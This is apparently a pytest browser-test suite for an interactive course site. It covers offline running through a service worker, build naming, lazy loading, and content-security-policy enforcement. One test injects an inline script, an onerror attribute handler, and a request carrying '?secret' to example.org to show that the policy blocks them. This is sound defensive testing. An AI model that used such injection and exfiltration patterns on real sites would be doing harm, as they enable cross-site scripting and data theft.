"""What a page has run once, it runs again without a network; and nothing of that is asked for before the first Run."""

import os
import shutil
from types import SimpleNamespace

import pytest

from course.services.web_server import serving
from course.site.offline import build_name
from tests.support.browsers import until

LESSON, DECK = "negative-engineering/how-pipelines-fail/", "slides/negative-engineering/"
NAIVE = "negative-engineering/naive.py"
KEPT = "caches.keys().then((names) => names.filter((name) => name.startsWith('run')))"
ENDED = "[...document.querySelectorAll('.run-state')].map((state) => state.textContent).find((text) => / s$/.test(text))"


@pytest.fixture
def reader(browser):
    """A browser that has never been here."""
    with browser.new_context() as context:
        yield context


def run(page, name=NAIVE):
    """Press Run on a file's first block, and return what is said when it has ended."""
    page.locator(f'[data-file="{name}"] .run-run').first.click()
    return until(page, ENDED)


def copy(site, folder):
    """A site that may be changed: one's own names for the same files."""
    return shutil.copytree(site, folder / "course", copy_function=os.link)


def replace(file, old, new):
    """Change a file of a copy, but not the site's own."""
    text = file.read_text("utf-8").replace(old, new)
    file.unlink()
    file.write_text(text, "utf-8")


def test_runs_without_a_network(reader, site):
    """A lesson that was run once is read and run again when there is no network any more."""
    with serving(site) as url:
        page = reader.new_page()
        page.goto(f"{url}/{LESSON}")
        assert "✓" in run(page)
        page.close()
    page = reader.new_page()
    page.goto(f"{url}/{LESSON}")
    assert page.locator("h1").inner_text().startswith("How production data pipelines fail")
    assert (
        page.evaluate("getComputedStyle(document.querySelector('.md-header')).position") == "sticky"
    )
    assert "✓" in run(page)


def test_a_build_is_named_by_what_it_holds():
    """Whatever changes below run/, the build has another name, and as long as nothing does, the same."""

    def name(**texts):
        return build_name(
            [
                SimpleNamespace(src_uri=f"run/{uri}", content_bytes=text.encode())
                for uri, text in texts.items()
            ]
        )

    assert name(a="1", b="2") == name(b="2", a="1")
    assert (
        len({name(a="1", b="2"), name(a="1", b="3"), name(a="1", c="2"), name(a="12", b="")}) == 4
    )


def test_a_new_build_brings_its_own(reader, site, tmp_path):
    """After a new build, a page runs nothing that was kept of the old one, which is kept no longer."""
    mine = copy(site, tmp_path)
    with serving(mine) as url:
        page = reader.new_page()
        page.goto(f"{url}/{LESSON}")
        page.locator(".run-edit").first.click()
        page.wait_for_selector(".cm-editor")
        (old,) = page.evaluate(KEPT)
        replace(mine / "service-worker.js", old.split()[1], "0" * 12)
        replace(mine / "run/editor.js", "export", "document.title = 'new';export")
        page.reload()
        page.locator(".run-edit").first.click()
        until(page, "document.title === 'new'")
        (new,) = page.evaluate(KEPT)
        assert new == old.replace(old.split()[1], "0" * 12)


def test_runs_below_a_path_after_a_link(reader, site, tmp_path):
    """Below a path, on a page that instant navigation has brought, a block runs, and nothing leaves the site."""
    mine, asked = copy(site, tmp_path), []
    reader.on("request", lambda request: asked.append(request.url))
    with serving(tmp_path) as url:
        replace(
            mine / "sitemap.xml", "http://127.0.0.1:8000/", f"{url}/course/"
        )  # as SITE_URL does
        page = reader.new_page()
        page.goto(f"{url}/course/negative-engineering/", wait_until="networkidle")
        page.evaluate("globalThis.same = true")
        page.get_by_role("link", name="How pipelines fail").first.click()
        page.wait_for_url(f"**/{LESSON}")
        assert not any("/run/" in address for address in asked)
        assert "✓" in run(page)
        assert page.evaluate("globalThis.same"), "the page was loaded anew"
        assert all(address.startswith((f"{url}/course/", "data:", "blob:")) for address in asked)
        assert any("/run/pyodide/" in address for address in asked)


@pytest.mark.parametrize("where", [LESSON, DECK])
def test_nothing_is_loaded_before_run(reader, site_url, where):
    """A page and a deck ask for nothing that runs code, and start no worker, before Run or Edit is pressed."""
    asked = []
    reader.on("request", lambda request: asked.append(request.url))
    page = reader.new_page()
    page.goto(f"{site_url}/{where}", wait_until="networkidle")
    page.wait_for_selector(".run-bar", state="attached")
    assert not [address for address in asked if "/run/" in address or "service-worker" in address]
    assert (
        page.evaluate("navigator.serviceWorker.getRegistrations().then((all) => all.length)") == 0
    )


VIOLATIONS = """addEventListener("securitypolicyviolation", (event) =>
  console.error(`violation: ${event.violatedDirective}: ${event.blockedURI} ${event.sample}`))"""


@pytest.fixture
def broken(reader):
    """What the policy forbids, in all pages and windows that are opened from here on."""
    said = []
    reader.on("page", lambda page: page.on("console", lambda message: said.append(message.text)))
    reader.add_init_script(VIOLATIONS)
    return said


def test_pages_keep_to_their_policy(reader, broken, site_url):
    """Home, search, its results, the palette, a lesson reached by a link, the editor, a Run: nothing is forbidden."""
    page = reader.new_page()
    page.goto(site_url)
    page.keyboard.press("/")
    page.keyboard.type("jitter")
    page.wait_for_selector(".md-search-result__link")
    page.keyboard.press("Enter")
    page.locator("label[for^=__palette]:visible").first.click()
    page.goto(f"{site_url}/negative-engineering/")
    page.get_by_role("link", name="How pipelines fail").first.click()
    page.wait_for_url(f"**/{LESSON}")
    page.locator(".run-edit").first.click()
    page.wait_for_selector(".cm-editor")
    assert "✓" in run(page)
    assert broken == []


def test_decks_keep_to_their_policy(reader, broken, site_url):
    """A deck, its speaker's view with the slides in it, and its handout: nothing is forbidden."""
    page = reader.new_page()
    page.goto(f"{site_url}/{DECK}")
    until(page, "window.Reveal?.isReady()")
    with page.expect_popup() as popup:
        page.keyboard.press("s")
    until(
        popup.value, "document.querySelector('.speaker-controls-notes .value').textContent.trim()"
    )
    popup.value.close()
    page.goto(f"{site_url}/{DECK}?print-pdf")
    page.wait_for_selector(".pdf-page")
    assert broken == []


@pytest.mark.parametrize("where", [LESSON, DECK])
def test_planted_scripts_do_not_run(reader, broken, site_url, where):
    """Neither a script in a page's text nor one in an attribute runs, and nothing is fetched from elsewhere."""
    page = reader.new_page()
    page.goto(f"{site_url}/{where}")
    page.evaluate("""() => {
      document.body.append(Object.assign(document.createElement("script"), { textContent: "planted = 1" }));
      document.body.insertAdjacentHTML("beforeend", "<img src=/none onerror='planted = 2'>");
      new Image().src = "https://example.org/?secret";
    }""")
    page.wait_for_timeout(200)
    assert page.evaluate("globalThis.planted") is None
    assert len([text for text in broken if text.startswith("violation: ")]) == 3
